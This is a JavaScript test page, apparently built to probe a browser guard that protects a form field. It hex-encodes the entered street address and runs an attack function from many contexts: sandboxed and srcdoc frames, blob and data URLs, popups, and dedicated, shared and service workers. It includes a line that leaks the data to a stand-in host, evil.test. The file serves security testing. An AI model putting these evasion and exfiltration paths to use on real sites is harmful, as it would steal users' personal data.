// Waits for a street in the form, and then attacks in every context of PLACES. PORT is the first port of the first one.
const places = PLACES, reported = {};
const port = (place) => PORT + 10 * places.indexOf(place);
let hex = '';
// The street that the shop's own answers spell, which the shop knows through another channel.
const asked = new URLSearchParams(location.search);
const known = asked.has('street') ? 'preset' : 'released';
const call = (place, relayAlone) => `(${attack})('${place}', '${hex}', ${port(place)}, ${!!relayAlone})`;
const html = (place, relayAlone) => `<!doctype html><body><script>parent.postMessage({ place: '${place}', tried: ${call(place, relayAlone)} }, '*')<\/script>`;
const report = (place, tried) => { if (place && !(reported[place] || []).length) reported[place] = tried; };
addEventListener('message', (event) => report(event.data.place, event.data.tried));
const frame = (attributes) => {
  const it = Object.assign(document.createElement('iframe'), attributes);
  document.body.append(it);
  return it;
};
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const dedicated = (place, address) => {
  const worker = new Worker(address);
  worker.onmessage = (event) => report(place, event.data);
  worker.onerror = () => report(place, []);
};
const inWorker = (place) => `postMessage(${call(place)})`;
const nested = (place) => `const inner = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inWorker(place))}])));
inner.onmessage = (event) => postMessage(event.data);`;
const go = {
  top: (place) => report(place, attack(place, hex, port(place))),
  same: () => document.querySelector('[name=same]').contentWindow.postMessage({ place: 'same', hex, port: port('same') }, '*'),
  cross: () => document.querySelector('[name=cross]').contentWindow.postMessage({ place: 'cross', hex, port: port('cross') }, '*'),
  fresh: () => { const it = frame({ src: '/frame' }); it.onload = () => it.contentWindow.postMessage({ place: 'fresh', hex, port: port('fresh') }, '*'); },
  sandboxed: (place) => {
    for (let count = 0; count < 25; count += 1) {
      const it = document.createElement('iframe');
      it.setAttribute('sandbox', 'allow-scripts');
      it.srcdoc = html(place, count > 0);
      document.body.append(it);
    }
  },
  srcdoc: (place) => frame({ srcdoc: html(place) }),
  data: (place) => frame({ src: 'data:text/html,' + encodeURIComponent(html(place)) }),
  blob: (place) => frame({ src: blob(html(place), 'text/html') }),
  script: (place) => frame({ src: 'javascript:' + encodeURIComponent(JSON.stringify(html(place))) }),
  written: (place) => { const it = frame({}).contentDocument; it.open(); it.write(html(place)); it.close(); },
  borrowed: (place) => {
    // The constructors of a frame's first, empty document, taken in the step that creates it.
    const taken = frame({}).contentWindow;
    report(place, taken.eval(call(place)));
  },
  popup: (place) => { const it = window.open('about:blank'); if (it) report(place, it.eval(call(place))); },
  worker: (place) => dedicated(place, blob(inWorker(place), 'text/javascript')),
  nested: (place) => dedicated(place, blob(nested(place), 'text/javascript')),
  shared: (place) => {
    const text = `onconnect = (event) => event.ports[0].postMessage(${call(place)})`;
    new SharedWorker(blob(text, 'text/javascript')).port.onmessage = (event) => report(place, event.data);
  },
  service: (place) => {
    navigator.serviceWorker.onmessage = (event) => report(place, event.data);
    navigator.serviceWorker.ready.then((it) => it.active.postMessage({ place, hex, port: port(place) }));
  },
  // The shop's own answers make the browser fetch. The shop knows the street through another channel.
  answer: (place) => { frame({ src: '/answer?' + known }); report(place, ['answer']); },
  driven: (place) => {
    // An earlier worker makes the page create the frame.
    const driver = new Worker(blob('setTimeout(() => postMessage(0), 300)', 'text/javascript'));
    driver.onmessage = () => { const it = frame({}); it.setAttribute('sandbox', 'allow-scripts'); it.srcdoc = html(place); };
  },
};
const begin = (street) => {
  hex = [...new TextEncoder().encode(street)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const attempt = (place) => { try { go[place](place); } catch (error) { report(place, []); } };
  // Frames that run before the guard's script come first, and attacks that may delay the page come last.
  attempt('sandboxed');
  places.filter((place) => !['sandboxed', 'popup'].includes(place)).forEach(attempt);
  // An address that another program opens, if the test has one that records it.
  if (asked.has('letter')) frame({ src: `mailto:${hex}@evil.test` });
  const end = performance.now() + 8000;
  const wait = setInterval(() => {
    if (performance.now() < end && places.some((place) => place !== 'popup' && !reported[place])) return;
    clearInterval(wait);
    const told = places.map((place) => `${place}:${(reported[place] || []).length}`).join(',');
    fetch(`/tried?${told}`).catch(() => {}).then(() => {
      attempt('popup');
      // From now on the shop's certificate lacks its issuer's, and names the address of that.
      return fetch('/swap?' + known).then(() => setInterval(() => fetch('/swapped').catch(() => {}), 500));
    });
  }, 50);
};
try { navigator.serviceWorker.register('/service.js').catch(() => {}); } catch (error) {}
const street = document.querySelector('[name=street]');
const preset = asked.get('street');
if (preset) {
  addEventListener('load', () => begin(preset));
} else {
  const watch = setInterval(() => { if (street.value) { clearInterval(watch); begin(street.value); } }, 5);
}
